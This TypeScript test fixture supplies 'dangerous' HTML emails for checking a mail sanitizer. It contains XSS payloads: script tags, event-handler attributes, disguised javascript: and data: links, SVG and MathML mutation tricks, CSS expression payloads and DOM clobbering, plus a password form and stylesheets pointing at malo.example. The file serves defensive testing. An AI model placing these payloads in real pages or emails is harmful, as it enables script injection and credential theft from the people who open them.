import { htmlMail, type OddFamily, type OddMail } from '../odd-mail.js';

const odd = (
  name: string,
  why: string,
  html: string,
  hides: readonly string[],
  shows: readonly string[] = ['Hola'],
): OddMail => ({
  name,
  why,
  raw: htmlMail(`<p>Hola</p>${html}<p>Fin</p>`),
  expected: { hides, shows },
});

export const oddDangerous: OddFamily = {
  name: 'dangerous',
  mails: [
    odd('script', 'A program.', '<script>alert(1)</script>', ['script', 'alert']),
    odd('script-not-closed', 'What follows is part of the program.', '<script>alert(1)', [
      'script',
      'alert',
    ]),
    odd(
      'handler',
      'A program in an attribute.',
      '<img src=x onerror="alert(1)"><b onclick=alert(1)>a</b>',
      ['onerror', 'onclick', 'alert'],
      ['<b>a</b>', 'Fin'],
    ),
    odd(
      'link',
      'A link that is a program.',
      '<a href="javascript:alert(1)">a</a>',
      ['javascript', 'alert'],
      ['>a</a>'],
    ),
    odd(
      'link-disguised',
      'The same, with signs that browsers pass over.',
      '<a href=" jAva\tscr\nipt&colon;alert(1)">a</a><a href="&#1;javascript:alert(1)">b</a>',
      ['alert'],
      ['>a</a>', '>b</a>'],
    ),
    odd(
      'link-of-data',
      'A link that is a page.',
      '<a href="data:text/html,<script>alert(1)</script>">a</a>',
      ['data:', 'alert'],
    ),
    odd(
      'link-vbscript',
      'A program of old.',
      '<a href="vbscript:msgbox(1)">a</a><a href="file:///etc/passwd">b</a>',
      ['vbscript', 'file:'],
    ),
    odd(
      'form',
      'A form that sends a password.',
      '<form action="https://malo.example"><input name="clave" type="password"><button>Enviar</button></form>',
      ['form', 'input', 'button', 'malo'],
    ),
    odd(
      'frame',
      'Pages within the page.',
      '<iframe src="https://malo.example"></iframe><object data="a.swf"></object><embed src="a.swf">',
      ['iframe', 'object', 'embed', 'malo', 'swf'],
    ),
    odd(
      'frame-of-text',
      'A page in an attribute.',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      ['srcdoc', 'alert'],
    ),
    odd(
      'refresh',
      'The page leads elsewhere by itself.',
      '<meta http-equiv="refresh" content="0;url=https://malo.example"><base href="https://malo.example/">',
      ['meta', 'base', 'malo'],
    ),
    odd(
      'drawing',
      'A program within a drawing.',
      '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><svg onload=alert(1)>',
      ['svg', 'alert'],
      ['Hola'],
    ),
    odd(
      'formula',
      'Marks of mathematics change how what follows is read.',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
      ['math', 'alert', 'onerror'],
    ),
    odd(
      'noscript',
      'What is read in two ways.',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
      ['<noscript', '<img'],
      ['Hola'],
    ),
    odd(
      'template',
      'Content that is put to use later.',
      '<template><img src=x onerror=alert(1)></template><xmp><script>alert(1)</script></xmp>',
      ['onerror', 'template'],
    ),
    odd(
      'sheet',
      'Styles of the whole page.',
      '<style>@import "https://malo.example/a.css"; p{background:url(https://malo.example/b)}</style><link rel="stylesheet" href="https://malo.example/c.css">',
      ['style', 'import', 'malo', 'link'],
    ),
    odd(
      'styles',
      'Styles that load, run or reach out.',
      '<p style="background:url(https://malo.example/a);width:expression(alert(1));-moz-binding:url(x);behavior:url(y);position:fixed;top:0;z-index:9;margin:-99px;color:red">a</p>',
      ['malo', 'expression', 'binding', 'behavior', 'fixed', 'z-index', '-99'],
      ['color:red'],
    ),
    odd(
      'names',
      'Names that a program of the page would find instead of its own.',
      '<a id="location" name="cookie">a</a><p id="x" class="bit-dialog">b</p>',
      ['id=', 'name=', 'class='],
    ),
    odd(
      'attributes-broken',
      'Quotes that are not closed.',
      '<p title="a" onmouseover="alert(1)" style=\'color:red;"\' <img src=x onerror=alert(1)>',
      ['onmouseover', 'onerror='],
    ),
  ],
};
